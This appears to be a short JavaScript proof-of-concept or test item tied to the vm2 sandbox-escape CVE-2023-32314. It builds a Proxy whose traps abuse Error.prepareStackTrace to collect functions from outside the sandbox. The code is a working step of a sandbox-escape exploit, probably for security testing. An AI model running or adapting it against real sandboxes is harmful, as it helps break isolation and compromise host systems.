// A result is a proxy: each of its traps runs in the door's hands.
// after: interpreter
// source: vm2: CVE-2023-32314
// calls: next next
let found = [];
function look() {
  Error.prepareStackTrace = (_, frames) => frames;
  const { stack } = new Error();
  Error.prepareStackTrace = undefined;
  found = stack.map((frame) => frame.getFunction()).filter(Boolean).map(String).filter((text) => !/native code|look/.test(text));
}
const attack = {
  next() {
    if (found.length) return { proof: found };
    return new Proxy({ a: 1 }, {
      get(target, name) { look(); return target[name]; },
      ownKeys(target) { look(); return Reflect.ownKeys(target); },
      getPrototypeOf() { look(); return Object.prototype; },
      has(target, name) { look(); return name in target; },
    });
  },
};
